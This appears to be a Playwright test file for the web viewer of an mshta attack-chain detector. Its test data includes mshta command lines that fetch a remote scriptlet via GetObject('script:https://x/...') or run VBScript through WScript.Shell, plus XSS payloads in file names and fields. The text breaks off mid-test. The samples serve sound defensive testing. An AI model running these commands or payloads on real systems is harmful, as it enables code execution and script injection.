// The log viewer (web-demo/) in headless Chromium (Debian's /usr/bin/chromium
// driven by playwright-core, launched as tests/runtimes/chromium.test.mjs
// does). Run by scripts/test-runtimes.sh as
// `node --test tests/runtimes/viewer.test.mjs`.
//
// The viewer is first assembled as static files (web-demo/bundle.mjs) into a
// scratch folder, which scripts/serve.mjs serves on 127.0.0.1: the test runs
// what a static host would serve. Expected results come from the package in
// Node over the same inputs. The large inputs are generated at run time:
// JSON Lines from copies of the sample, and an .evtx from copies of the real
// EVTX chunks (writeBigEvtx in viewer-data.mjs): ~30 MB each, ~300 MB with
// MSHTA_VIEWER_BIG=1, N MB with MSHTA_VIEWER_MB=N. bench/viewer.mjs measures
// the same inputs at 1 GB with the memory of the page and its worker.
// Screenshots (light and dark): $MSHTA_VIEWER_SCREENSHOTS (default
// /tmp/mshta-chain-viewer/).

import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { createReadStream, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";

import { serve } from "../../scripts/serve.mjs";
import { bundle } from "../../web-demo/bundle.mjs";
import { Detector, analyze, version } from "../../pkg/node.mjs";
import * as text from "../../pkg/src/text.js";
import * as formats from "../../pkg/src/formats.js";
import { ATTACKS, EXPECTED } from "./common.mjs";
import { highlightRanges } from "../../web-demo/chain-view.js";
import { JsonArraySplitter } from "../../web-demo/json-array.js";
import { PAYLOADS, hostileEvents, hostileXml, browserProcesses, hugeLine, startProbe, stopProbe, writeBigEvtx, writeCopies } from "./viewer-data.mjs";

const here = dirname(fileURLToPath(import.meta.url));
const repo = resolve(here, "../..");
const realdata = resolve(repo, "tests/data/realdata");
const SAMPLE = resolve(repo, "tests/data/sample.jsonl");
const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const SHOTS = process.env.MSHTA_VIEWER_SCREENSHOTS ?? "/tmp/mshta-chain-viewer";
const BIG = process.env.MSHTA_VIEWER_BIG === "1";
const BIG_MB = Number(process.env.MSHTA_VIEWER_MB) || (BIG ? 300 : 30); // MSHTA_VIEWER_MB=N: any size
const BIG_BYTES = BIG_MB * 1000 * 1000;
const HAS_EVTX = existsSync(resolve(repo, "pkg/evtx.js"));
// Same launch arguments as chromium.test.mjs.
const ARGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--disable-quic",
  "--no-first-run",
];
assert.ok(existsSync(CHROMIUM), `${CHROMIUM} not found: apt-get install -y chromium`);
assert.ok(existsSync(SAMPLE), `the sample is missing: ${SAMPLE}`);

const scratch = mkdtempSync(join(tmpdir(), "mshta-chain-viewer-"));
const sampleBytes = readFileSync(SAMPLE);
/** The report Node makes of files read in turn, each named as the viewer names it (evidence carries its `file`). */
function analyzeAs(files) {
  const detector = new Detector();
  for (const [name, bytes] of files) {
    detector.setSource(name);
    detector.push(bytes);
  }
  const report = detector.finish();
  detector.free();
  return report;
}
const sample = analyzeAs([["sample.jsonl", sampleBytes]]);
const triageOf = (chain, report) => (Array.isArray(chain.triage) ? chain.triage : typeof text.triage === "function" ? text.triage(chain, report) : []);

let server;
let context;
let userDataDir;
let big; // { path, copies, bytes, lines }
const requests = []; // every URL the browser asked for

before(async () => {
  server = await serve({ root: bundle(join(scratch, "site")) });
  userDataDir = mkdtempSync(join(tmpdir(), "mshta-chain-viewer-profile-"));
  context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: ARGS,
    acceptDownloads: true,
    viewport: { width: 1280, height: 900 },
  });
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.url.replace(/\/$/, "") });
  // Only the test server may be reached; everything asked for is recorded.
  await context.route(/.*/, (route) => {
    const url = route.request().url();
    requests.push(url);
    return url.startsWith(server.url) || url.startsWith("blob:") || url.startsWith("data:") ? route.continue() : route.abort();
  });
  mkdirSync(SHOTS, { recursive: true });
  const started = Date.now();
  big = { path: join(scratch, "big.jsonl"), ...writeCopies(join(scratch, "big.jsonl"), sampleBytes.toString("utf8"), BIG_BYTES) };
  process.stderr.write(`# generated ${(big.bytes / 1e6).toFixed(0)} MB (${big.copies} copies of the sample) in ${Date.now() - started} ms\n`);
});

after(async () => {
  await context?.close();
  await server?.close();
  for (const dir of [userDataDir, scratch]) if (dir) rmSync(dir, { recursive: true, force: true });
});

/** Opens the viewer, waits for the worker; collects page errors. */
async function openViewer() {
  const page = await context.newPage();
  const problems = [];
  page.on("pageerror", (error) => problems.push(`pageerror: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() === "error") problems.push(`console: ${message.text()}`);
  });
  await page.goto(server.url + "web-demo/");
  await page.waitForSelector('body[data-state="ready"]', { timeout: 30_000 });
  return { page, problems };
}

async function waitDone(page, timeout = 60_000) {
  await page.waitForFunction(() => ["done", "error"].includes(document.body.dataset.state) || !document.getElementById("app-error").hidden, null, { timeout });
  assert.equal(await page.textContent("#app-error"), "", "no error shown");
  assert.equal(await page.getAttribute("body", "data-state"), "done");
}

/** The chain ids listed, once the list is drawn (it is drawn a few rows per frame). */
async function rowIds(page) {
  await page.waitForFunction(() => !document.body.dataset.listing);
  return page.$$eval("#chains .chain-row", (rows) => rows.map((r) => r.dataset.chainId));
}
const sortedByScore = (chains) => [...chains].sort((a, b) => b.score - a.score || String(a.root.time).localeCompare(String(b.root.time)) || a.id.localeCompare(b.id));

async function loadSample(page) {
  await page.click("#sample");
  await waitDone(page);
}

async function openChain(page, id) {
  await page.click(`#chains .chain-row[data-chain-id="${id}"]`);
  await page.waitForSelector(`#view .chain-view[data-chain-id="${id}"]`);
}

test("command-line spans (UTF-16 code units, as the core gives them) become merged highlight ranges; none without spans", () => {
  const cmd = "mshta \u{1F600} javascript:GetObject('script:https://x/a.sct')";
  const at = (needle) => cmd.indexOf(needle); // UTF-16 code units
  const reasons = [
    { id: "cmdline_inline_script", spans: [[at("javascript:"), at("javascript:") + 11]] },
    { id: "cmdline_script_object", spans: [[at("GetObject"), at("GetObject") + 9], [at("javascript:") + 5, at("javascript:") + 14]] },
    { id: "no_spans" },
    { id: "bad", spans: [[5, 2], [-1, 3], ["a", 4]] },
  ];
  const ranges = highlightRanges(cmd, reasons);
  assert.deepEqual(ranges.map((r) => cmd.slice(r.start, r.end)), ["javascript:GetObject"]);
  assert.deepEqual(ranges[0].ids, ["cmdline_inline_script", "cmdline_script_object"]);
  assert.deepEqual(highlightRanges(cmd, [{ id: "x" }]), []);
});

test("the core's spans slice the command line at what matched, past characters outside the BMP", () => {
  const cmd = "mshta \u{1F600} vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")";
  const line = JSON.stringify({
    EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: "PC1", UtcTime: "2024-05-01 10:00:00.000",
    ProcessGuid: "{11111111-0000-0000-0000-000000000001}", ProcessId: "100", Image: "C:\\Windows\\System32\\mshta.exe",
    CommandLine: cmd, ParentImage: "C:\\Windows\\System32\\cmd.exe",
  });
  const chain = analyze(line).chains[0];
  const inline = chain.reasons.find((r) => r.id === "cmdline_inline_script");
  assert.ok(inline?.spans?.length, JSON.stringify(chain.reasons));
  const ranges = highlightRanges(chain.root.command_line, [inline]);
  assert.equal(chain.root.command_line.slice(ranges[0].start, ranges[0].end).toLowerCase(), "vbscript:");
});

test("a JSON array streams as one element per line, however it is cut", () => {
  const src = '\ufeff[ {"a":1,"b":[1,{"c":"x]},"}]},\n {\n"d":"q\\"}"\n}, 3, "s,t", null ] trailing';
  const bytes = new TextEncoder().encode(src);
  for (const step of [1, 2, 5, bytes.length]) {
    const splitter = new JsonArraySplitter();
    let out = "";
    const decoder = new TextDecoder();
    for (let i = 0; i < bytes.length; i += step) out += decoder.decode(splitter.push(bytes.subarray(i, i + step)), { stream: true });
    out += decoder.decode(splitter.finish());
    assert.deepEqual(out.split("\n"), ['{"a":1,"b":[1,{"c":"x]},"}]}', '{ "d":"q\\"}" }', "3", '"s,t"', "null ", ""], `cut every ${step} bytes`);
    assert.equal(splitter.elements, 5);
    assert.equal(splitter.trailing, true);
  }
});

test("the sample: three chains sorted by score, and the summary", async () => {
  const { page, problems } = await openViewer();
  assert.equal(await page.textContent("#version"), `core ${version()}`);
  await loadSample(page);
  assert.equal(sample.chains.length, 3, "the README's three chains");
  assert.deepEqual(await rowIds(page), sortedByScore(sample.chains).map((c) => c.id));
  const counts = (await page.textContent("#counts")).replace(/,/g, "");
  for (const [label, n] of [["events", sample.stats.events], ["accepted", sample.stats.accepted], ["rejected", sample.stats.rejected], ["chains", 3]]) {
    assert.ok(counts.includes(`${n}${label}`), `${label} in ${counts}`);
  }
  const severities = await page.$$eval("#severities .sev-chip", (chips) => Object.fromEntries(chips.map((c) => [c.dataset.severity, Number(c.querySelector("b").textContent)])));
  for (const sev of ["critical", "high", "medium", "low", "informational"]) assert.equal(severities[sev], sample.chains.filter((c) => c.severity === sev).length, sev);
  const schemas = await page.textContent("#schemas");
  for (const [name, n] of Object.entries(sample.stats.by_schema)) assert.ok(schemas.includes(`${name} ${n}`), name);
  const coverage = await page.textContent("#coverage");
  for (const v of sample.coverage.overall.verdicts) assert.ok(coverage.includes(`${v.need.replace(/_/g, " ")} ${v.status}`), v.need);
  for (const h of sample.coverage.hosts) {
    for (const v of h.verdicts.filter((x) => x.status !== "ok")) assert.ok(coverage.includes(h.host) && coverage.includes(v.detail), `${h.host}: ${v.need}`);
  }
  assert.match(await page.textContent("#status"), /^Done: the bundled sample · 349 events · 3 chains/);
  assert.equal(await page.$eval("#progress", (p) => p.value === p.max && !p.hidden), true, "progress at 100%");
  assert.deepEqual(problems, []);
  await page.close();
});

test("the chain view: tree, timeline, reasons, highlighted command line, triage, evidence with file and item; screenshots light and dark", async () => {
  const { page, problems } = await openViewer();
  await loadSample(page);
  for (const chain of sample.chains) {
    await openChain(page, chain.id);
    const view = await page.$eval("#view", (v) => ({
      tree: [...v.querySelectorAll("#tree .proc")].map((li) => ({ kind: li.dataset.kind, text: li.textContent })),
      items: Number(v.querySelector("svg.timeline").dataset.items),
      late: Number(v.querySelector("svg.timeline").dataset.late),
      marks: [...v.querySelectorAll("svg.timeline .mark")].map((m) => ({ lane: m.dataset.lane, event: Number(m.dataset.event), late: m.dataset.late === "true" })),
      reasons: [...v.querySelectorAll("#reasons tbody tr")].map((tr) => [...tr.children].map((td) => td.textContent)),
      cmd: v.querySelector("#command-line").textContent,
      highlighted: [...v.querySelectorAll("#command-line mark")].map((m) => m.textContent),
      triage: [...v.querySelectorAll("#triage li")].map((li) => li.textContent),
      evidence: v.querySelector("#evidence").textContent,
    }));
    // Tree: ancestors, the parent, mshta, then every descendant.
    const kinds = view.tree.map((p) => p.kind);
    assert.deepEqual(kinds, [...chain.lineage.map(() => "ancestor"), ...(chain.root.parent ? ["parent"] : []), "mshta", ...chain.children.map(() => "child")]);
    assert.ok(view.tree.find((p) => p.kind === "mshta").text.includes(`pid ${chain.root.pid}`));
    for (const child of chain.children) assert.ok(view.tree.some((p) => p.kind === "child" && p.text.includes(`pid ${child.pid}`)), `child ${child.pid}`);
    // Timeline: one mark per timed item, in its lane, late ones marked.
    const timed = [
      ...chain.children.map((c) => ["processes", c]),
      ...chain.files.map((f) => ["files", f]),
      ...chain.network.map((n) => ["network", n]),
      ...chain.dns.map((d) => ["DNS", d]),
      ...chain.modules.map((m) => ["modules", m]),
    ].filter(([, item]) => Number.isFinite(Date.parse(item.time)));
    assert.equal(view.items, timed.length);
    assert.deepEqual(view.marks.map((m) => `${m.lane}:${m.event}:${m.late}`).sort(), timed.map(([lane, item]) => `${lane}:${item.event}:${item.late === true}`).sort());
    assert.equal(view.late, timed.filter(([, item]) => item.late).length);
    // Reasons with their points and evidence (input index, file, item).
    assert.deepEqual(view.reasons.map((r) => r[1]), chain.reasons.map((r) => r.id));
    assert.deepEqual(view.reasons.map((r) => r[0]), chain.reasons.map((r) => (r.points >= 0 ? `+${r.points}` : String(r.points))));
    for (const [i, r] of chain.reasons.entries()) for (const e of r.events) assert.ok(view.reasons[i][3].includes(`#${e} · sample.jsonl item ${e + 1}`), `${r.id} cites #${e}`);
    // The command line, whole; highlighted where the core says a reason matched.
    assert.equal(view.cmd, chain.root.command_line);
    const spans = chain.reasons.flatMap((r) => r.spans ?? []);
    if (spans.length === 0) assert.deepEqual(view.highlighted, [], "no spans in the report: nothing highlighted");
    else assert.ok(view.highlighted.length > 0 && view.highlighted.every((h) => chain.root.command_line.includes(h)));
    assert.deepEqual(view.triage, triageOf(chain, sample));
    for (const item of [...chain.children, ...chain.files, ...chain.network, ...chain.dns]) {
      assert.ok(view.evidence.includes(`#${item.event} · sample.jsonl item ${item.event + 1}`), `evidence #${item.event}`);
    }
  }
  // Screenshots of the main views, light and dark (the system's setting, then the switch).
  const [first] = sortedByScore(sample.chains);
  await openChain(page, first.id);
  for (const scheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme: scheme });
    await page.screenshot({ path: join(SHOTS, `chain-view-${scheme}.png`) });
    await page.screenshot({ path: join(SHOTS, `full-${scheme}.png`), fullPage: true });
  }
  const bg = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  const dark = await bg();
  await page.click("#theme"); // system -> light
  assert.equal(await page.textContent("#theme"), "Theme: light");
  assert.notEqual(await bg(), dark, "the switch overrides the system's dark");
  await page.click("#theme"); // light -> dark
  await page.emulateMedia({ colorScheme: "light" });
  assert.equal(await bg(), dark, "dark chosen, whatever the system says");
  await page.click("#close-view");
  await page.screenshot({ path: join(SHOTS, "list-dark.png") });
  await page.reload();
  await page.waitForSelector('body[data-state="ready"]');
  assert.equal(await page.textContent("#theme"), "Theme: dark", "the choice is kept");
  await page.click("#theme"); // dark -> system
  assert.equal(await page.textContent("#theme"), "Theme: system");
  await loadSample(page);
  await page.screenshot({ path: join(SHOTS, "list-light.png") });
  assert.deepEqual(problems, []);
  await page.close();
});

test("filters (severity, host, text) and keys (/, j, k, Enter, Esc)", async () => {
  const { page, problems } = await openViewer();
  // The sample plus a plain mshta run of a local HTA: scores that differ.
  const plain = join(scratch, "plain.jsonl");
  const event = {
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Hostname: "ws-plain",
    UtcTime: "2024-05-01 10:00:00.000",
    ProcessGuid: "{22222222-0000-0000-0000-000000000001}",
    ProcessId: "4100",
    Image: "C:\\Windows\\System32\\mshta.exe",
    CommandLine: '"C:\\Windows\\System32\\mshta.exe" "C:\\Program Files\\Contoso\\setup.hta"',
    ParentImage: "C:\\Windows\\explorer.exe",
    ParentProcessId: "200",
  };
  writeFileSync(plain, JSON.stringify(event) + "\n");
  await page.setInputFiles("#files", [SAMPLE, plain]);
  await waitDone(page);
  const report = analyze(Buffer.concat([sampleBytes, readFileSync(plain)]));
  assert.deepEqual(await rowIds(page), sortedByScore(report.chains).map((c) => c.id));
  const ranks = ["informational", "low", "medium", "high", "critical"];
  for (const sev of ranks) {
    await page.selectOption("#severity", sev);
    const want = sortedByScore(report.chains.filter((c) => ranks.indexOf(c.severity) >= ranks.indexOf(sev))).map((c) => c.id);
    assert.deepEqual(await rowIds(page), want, `severity ${sev} and above`);
  }
  await page.selectOption("#severity", "informational");
  await page.selectOption("#host", "ws-plain");
  assert.deepEqual(await rowIds(page), report.chains.filter((c) => c.host === "ws-plain").map((c) => c.id));
  await page.selectOption("#host", "");
  // Text: anything in a chain, paths as written, in any case.
  const search = async (q) => {
    await page.fill("#search", q);
    await page.waitForFunction((v) => document.body.dataset.searched === v, q);
    return rowIds(page);
  };
  const has = (needle) => sortedByScore(report.chains.filter((c) => JSON.stringify(c).toLowerCase().includes(needle))).map((c) => c.id);
  assert.deepEqual(await search("get-service"), has("get-service"));
  assert.equal((await search("get-service")).length, 1);
  assert.deepEqual(await search("151.101.248.133"), has("151.101.248.133"));
  const path = "c:\\users\\wardog\\appdata\\roaming\\microsoft\\windows\\start menu";
  assert.equal((await search(path)).length, 1);
  assert.deepEqual(await search("no such text anywhere"), []);
  assert.match(await page.textContent("#no-chains"), /No chain matches/);
  await search("");
  // Keys.
  await page.locator("body").click({ position: { x: 5, y: 5 } });
  await page.keyboard.press("/");
  assert.equal(await page.evaluate(() => document.activeElement.id), "search");
  await page.keyboard.type("calc");
  await page.waitForFunction(() => document.body.dataset.searched === "calc");
  assert.deepEqual(await rowIds(page), has("calc"));
  await page.keyboard.press("Escape"); // clears the search and leaves the box
  await page.waitForFunction(() => document.body.dataset.searched === "");
  assert.notEqual(await page.evaluate(() => document.activeElement.id), "search");
  const ids = await rowIds(page);
  const selected = () => page.$eval("#chains .chain-row.selected", (r) => r.dataset.chainId);
  assert.equal(await selected(), ids[0]);
  await page.keyboard.press("j");
  assert.equal(await selected(), ids[1]);
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  assert.equal(await selected(), ids[3]);
  await page.keyboard.press("k");
  assert.equal(await selected(), ids[2]);
  await page.keyboard.press("Enter");
  await page.waitForSelector(`#view .chain-view[data-chain-id="${ids[2]}"]`);
  await page.keyboard.press("Escape");
  await page.waitForSelector("#view", { state: "hidden" });
  // Pasted events.
  await page.click("#paste-box summary");
  await page.fill("#paste", readFileSync(plain, "utf8"));
  await page.click("#analyse-paste");
  await waitDone(page);
  assert.deepEqual(await rowIds(page), analyze(readFileSync(plain)).chains.map((c) => c.id));
  assert.match(await page.textContent("#status"), /^Done: pasted text · 1 events · 1 chain/);
  assert.deepEqual(problems, []);
  await page.close();
});

test("exports: JSON, NDJSON, OCSF, ECS and text parse and match the package's; a chain copies as Markdown", async () => {
  const { page, problems } = await openViewer();
  await loadSample(page);
  const exported = {};
  for (const format of ["json", "ndjson", "ocsf", "ecs", "text"]) {
    const [download] = await Promise.all([page.waitForEvent("download"), page.click(`[data-export="${format}"]`)]);
    const file = join(scratch, download.suggestedFilename());
    await download.saveAs(file);
    exported[format] = readFileSync(file, "utf8");
  }
  assert.deepEqual(JSON.parse(exported.json), sample);
  const lines = exported.ndjson.split("\n").filter((l) => l !== "");
  assert.deepEqual(lines.map((l) => JSON.parse(l)), text.formatNdjson(sample).split("\n").filter((l) => l !== "").map((l) => JSON.parse(l)));
  assert.equal(lines.length, sample.chains.length);
  const ocsf = JSON.parse(exported.ocsf);
  assert.deepEqual(ocsf, formats.toOcsf(sample));
  assert.ok(ocsf.every((f) => f.class_uid === 2004));
  const ecs = JSON.parse(exported.ecs);
  assert.deepEqual(ecs, formats.toEcs(sample));
  assert.ok(ecs.every((d) => d.event.kind === "alert"));
  assert.equal(exported.text, text.formatText(sample));
  // Markdown of a chain, on the clipboard.
  const [chain] = sortedByScore(sample.chains);
  await openChain(page, chain.id);
  await page.click("#copy-md");
  await page.waitForFunction((id) => document.body.dataset.copied === id, chain.id);
  const markdown = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(markdown.startsWith(`### mshta chain \`${chain.id}\``), markdown.slice(0, 80));
  for (const r of chain.reasons) assert.ok(markdown.includes(`\`${r.id}\``), r.id);
  for (const t of triageOf(chain, sample)) assert.ok(markdown.includes(t.replace(/\|/g, "\\|")) || markdown.includes(t), t);
  assert.ok(markdown.includes(chain.root.command_line));
  assert.deepEqual(problems, []);
  await page.close();
});

test("files, a folder, drag and drop, a JSON array, and .evtx routed to the EVTX entry", async () => {
  const { page, problems } = await openViewer();
  const attacks = Object.values(ATTACKS).map((rel) => resolve(realdata, rel));
  const pids = () => page.$$eval("#chains .chain-row .image", (n) => n.map((x) => x.textContent.replace(/^.* pid /, "")).sort());
  const expectedPids = Object.values(EXPECTED).map((e) => String(e.pid)).sort();
  // Three files at once: one stream; evidence names its file.
  await page.setInputFiles("#files", attacks);
  await waitDone(page);
  assert.deepEqual(await pids(), expectedPids);
  assert.match(await page.textContent("#status"), /^Done: 3 files/);
  const all = analyze(Buffer.concat(attacks.map((f) => readFileSync(f))));
  const hta = all.chains.find((c) => c.root.pid === EXPECTED.hta.pid);
  await openChain(page, hta.id);
  const offset = readFileSync(attacks[0]).toString().split("\n").filter((l) => l.trim()).length + readFileSync(attacks[1]).toString().split("\n").filter((l) => l.trim()).length;
  const evidence = await page.textContent("#evidence");
  const child = hta.children[0];
  assert.ok(evidence.includes(`#${child.event} · psh_mshta_html_application_execution.jsonl item ${child.event - offset + 1}`), "evidence names the file and the item in it");

  // A folder (webkitdirectory): files in path order, other files skipped.
  const folder = join(scratch, "logs");
  mkdirSync(join(folder, "b"), { recursive: true });
  writeFileSync(join(folder, "a.jsonl"), readFileSync(attacks[0]));
  writeFileSync(join(folder, "b", "c.jsonl"), readFileSync(attacks[1]));
  writeFileSync(join(folder, "b", "d.jsonl"), readFileSync(attacks[2]));
  writeFileSync(join(folder, "notes.png"), "not a log");
  await page.setInputFiles("#folder", folder);
  await waitDone(page);
  assert.deepEqual(await pids(), expectedPids);
  assert.match(await page.textContent("#status"), /^Done: logs \(3 files\)/);

  // A pretty-printed JSON array, streamed element by element: the report Node makes of it whole.
  const lines = readFileSync(attacks[1], "utf8").split("\n").filter((l) => l.trim() !== "");
  const array = join(scratch, "vbscript.json");
  writeFileSync(array, JSON.stringify(lines.map((l) => JSON.parse(l)), null, 2));
  await page.setInputFiles("#files", array);
  await waitDone(page);
  const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-export="json"]')]);
  await download.saveAs(join(scratch, "array-report.json"));
  assert.deepEqual(JSON.parse(readFileSync(join(scratch, "array-report.json"), "utf8")), analyzeAs([["vbscript.json", readFileSync(array)]]));

  // Drag and drop onto the drop zone.
  const bytes = readFileSync(attacks[0]).toString("base64");
  const dataTransfer = await page.evaluateHandle((b64) => {
    const dt = new DataTransfer();
    dt.items.add(new File([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], "dropped.jsonl"));
    return dt;
  }, bytes);
  await page.dispatchEvent("#drop", "drop", { dataTransfer });
  await waitDone(page);
  assert.deepEqual(await pids(), [String(EXPECTED.getobject.pid)]);
  assert.match(await page.textContent("#status"), /^Done: dropped\.jsonl/);

  // An .evtx file goes to the EVTX entry; without it, that file's error, and the others still count.
  await page.setInputFiles("#files", [resolve(realdata, "evtx/sysmon.evtx"), attacks[2]]);
  await waitDone(page);
  const notes = await page.textContent("#file-notes");
  if (HAS_EVTX) assert.doesNotMatch(notes, /not available/);
  else assert.match(notes, /sysmon\.evtx: EVTX support not available in this build/);
  assert.ok((await pids()).includes(String(EXPECTED.hta.pid)), "the JSON file after it still counts");
  assert.deepEqual(problems, []);
  await page.close();
});

test("cancel stops the work; the viewer then runs again", async () => {
  const { page, problems } = await openViewer();
  // The large file ten times over: a stream long enough to cancel in the middle.
  const total = big.bytes * 10;
  await page.setInputFiles("#files", Array(10).fill(big.path));
  await page.waitForFunction(() => Number(document.getElementById("status").dataset.bytes ?? 0) > 0);
  await page.click("#cancel");
  await page.waitForSelector('body[data-state="cancelled"]', { timeout: 10_000 });
  const status = await page.textContent("#status");
  assert.match(status, /^Cancelled /);
  const read = Number(await page.$eval("#status", (s) => s.dataset.bytes));
  assert.ok(read < total, `stopped before the end (${read} of ${total} bytes)`);
  // No progress after the cancel: the worker stopped reading.
  await page.waitForTimeout(1000);
  assert.equal(await page.textContent("#status"), status);
  assert.equal(await page.getAttribute("body", "data-state"), "cancelled");
  assert.equal(await page.$$eval("#chains .chain-row", (r) => r.length), 0, "nothing kept");
  await loadSample(page);
  assert.equal((await rowIds(page)).length, 3);
  assert.deepEqual(problems, []);
  await page.close();
});

/** Markdown with its code spans and fenced blocks taken out (CommonMark's backtick-run rule). */
function outsideCode(md) {
  let out = "";
  for (let i = 0; i < md.length; ) {
    if (md[i] !== "`") {
      out += md[i++];
      continue;
    }
    let n = 0;
    while (md[i + n] === "`") n++;
    let close = -1;
    for (let j = i + n; j < md.length; ) {
      if (md[j] !== "`") {
        j++;
        continue;
      }
      let m = 0;
      while (md[j + m] === "`") m++;
      if (m === n) {
        close = j;
        break;
      }
      j += m;
    }
    if (close < 0) {
      out += "`".repeat(n);
      i += n;
    } else {
      out += " ";
      i = close + n;
    }
  }
  return out;
}

/** The resident memory of the browser's largest renderer process (the viewer's tab, with its worker), in bytes. */
function rendererRss() {
  return browserProcesses(userDataDir).filter((p) => p.cmd.includes("--type=renderer")).reduce((n, p) => Math.max(n, p.rss), 0);
}

/** The probe's figures as the test prints them. */
const probeLine = (probe) =>
  `main thread: ${probe.long} tasks over 50 ms${probe.long ? `, longest ${probe.longMax.toFixed(0)} ms` : ""}, longest gap between timer turns ${probe.max.toFixed(0)} ms (${probe.turns} turns)`;

test(`a ${BIG_MB} MB file: the main thread's longest stall (printed; asserted loosely), every chain found`, async (t) => {
  const { page, problems } = await openViewer();
  await startProbe(page);
  const idle = rendererRss();
  let peak = idle;
  const sampler = setInterval(() => (peak = Math.max(peak, rendererRss())), 250);
  const started = Date.now();
  await page.setInputFiles("#files", big.path);
  await waitDone(page, 30 * 60_000);
  const wall = (Date.now() - started) / 1000;
  clearInterval(sampler);
  const probe = await stopProbe(page);
  const elapsed = Number(await page.$eval("#status", (s) => s.dataset.elapsedMs)) / 1000;
  const line =
    `${(big.bytes / 1e6).toFixed(0)} MB, ${big.lines.toLocaleString("en")} events: ${elapsed.toFixed(1)} s in the worker (${wall.toFixed(1)} s wall), ` +
    `${Math.round(big.lines / elapsed).toLocaleString("en")} events/s, ${(big.bytes / 1e6 / elapsed).toFixed(0)} MB/s; ` +
    `${probeLine(probe)}; ` +
    `the tab's renderer process: ${(idle / 2 ** 20).toFixed(0)} MiB resident before, ${(peak / 2 ** 20).toFixed(0)} MiB at the peak`;
  t.diagnostic(line);
  process.stderr.write(`# viewer: ${line}\n`);
  assert.equal((await rowIds(page)).length, Math.min(200, big.copies * sample.chains.length), "the first page of rows");
  assert.match(await page.textContent("#list-count"), new RegExp(`of ${(big.copies * sample.chains.length).toLocaleString("en")} chains`));
  assert.ok(probe.turns > 10, "the probe ran");
  // A long task is the main thread busy (timer gaps also count the OS giving the core to others).
  assert.ok(probe.longMax < 200, `a main-thread task took ${probe.longMax.toFixed(0)} ms (want < 50; asserted < 200 for loaded machines)`);
  assert.deepEqual(problems, []);
  await page.close();
});

test(`a ${BIG_MB} MB .evtx (copies of real chunks) streams through the EVTX entry: every event and chain, the longest stall printed`, { skip: !HAS_EVTX && "this build has no EVTX entry" }, async (t) => {
  const path = join(scratch, "big.evtx");
  const made = writeBigEvtx(path, resolve(realdata, "evtx"), BIG_BYTES);
  // What Node makes of the same file, read as a stream.
  const { readRawLog } = await import("../../pkg/evtx-node.mjs");
  const detector = new Detector();
  const read = await readRawLog(detector, createReadStream(path));
  const expected = detector.finish();
  detector.free();
  assert.deepEqual(read.errors, [], "the generated file is intact");
  assert.ok(expected.chains.length >= made.copies, "every copy gives a chain");

  const { page, problems } = await openViewer();
  await startProbe(page);
  const idle = rendererRss();
  let peak = idle;
  const sampler = setInterval(() => (peak = Math.max(peak, rendererRss())), 250);
  await page.setInputFiles("#files", path);
  await waitDone(page, 30 * 60_000);
  clearInterval(sampler);
  const probe = await stopProbe(page);
  const elapsed = Number(await page.$eval("#status", (s) => s.dataset.elapsedMs)) / 1000;
  const line =
    `${(made.bytes / 1e6).toFixed(0)} MB .evtx, ${expected.stats.events.toLocaleString("en")} events: ${elapsed.toFixed(1)} s in the worker, ` +
    `${Math.round(expected.stats.events / elapsed).toLocaleString("en")} events/s, ${(made.bytes / 1e6 / elapsed).toFixed(1)} MB/s; ${probeLine(probe)}; ` +
    `the tab's renderer process: ${(idle / 2 ** 20).toFixed(0)} MiB resident before, ${(peak / 2 ** 20).toFixed(0)} MiB at the peak`;
  t.diagnostic(line);
  process.stderr.write(`# viewer: ${line}\n`);
  assert.equal(Number(await page.$eval("#status", (s) => s.dataset.events)), expected.stats.events);
  assert.match(await page.textContent("#list-count"), new RegExp(`of ${expected.chains.length.toLocaleString("en")} chains`));
  assert.deepEqual(await rowIds(page), sortedByScore(expected.chains).slice(0, 200).map((c) => c.id), "the first page of rows");
  assert.doesNotMatch(await page.textContent("#file-notes"), /not available|error/i);
  assert.ok(probe.turns > 10, "the probe ran");
  assert.ok(probe.longMax < 200, `a main-thread task took ${probe.longMax.toFixed(0)} ms (want < 50; asserted < 200 for loaded machines)`);
  assert.deepEqual(problems, []);
  await page.close();
  rmSync(path, { force: true });
});

test("hostile text in every field and format is shown as text; nothing runs, nothing is fetched; the worker has the page's CSP", async () => {
  const { page, problems } = await openViewer();
  const files = [];
  const add = (name, content) => {
    const file = join(scratch, name);
    writeFileSync(file, content);
    files.push(file);
  };
  const jsonl = hostileEvents("jsonl").map((e) => JSON.stringify(e));
  add(`xss<img src=x onerror=window.__xss=7>.jsonl`, [...jsonl, hugeLine(), '{"EventID":1,"bad":"\u0000<img src=x onerror=window.__xss=8>', ""].join("\n"));
  add("xss-array.json", JSON.stringify(hostileEvents("array"), null, 2));
  // The same events in the evtx_dump JSON shape (sysmon_evtx).
  const evtxShape = hostileEvents("evtxjson").map(({ EventID, Channel, Hostname, ...data }) =>
    JSON.stringify({ Event: { System: { EventID, Channel, Computer: Hostname, TimeCreated: { "#attributes": { SystemTime: data.UtcTime.replace(" ", "T") + "Z" } } }, EventData: data } }),
  );
  add("xss-evtx-shape.jsonl", evtxShape.join("\n") + "\n");
  add("xss-events.xml", hostileXml());
  await page.setInputFiles("#files", files);
  await waitDone(page);
  await page.click("#paste-box summary");
  // As the viewer reads them: one stream, each file ending its last line.
  const detector = new Detector();
  for (const f of files.filter((f) => !f.endsWith(".xml"))) {
    detector.push(readFileSync(f));
    detector.push("\n");
  }
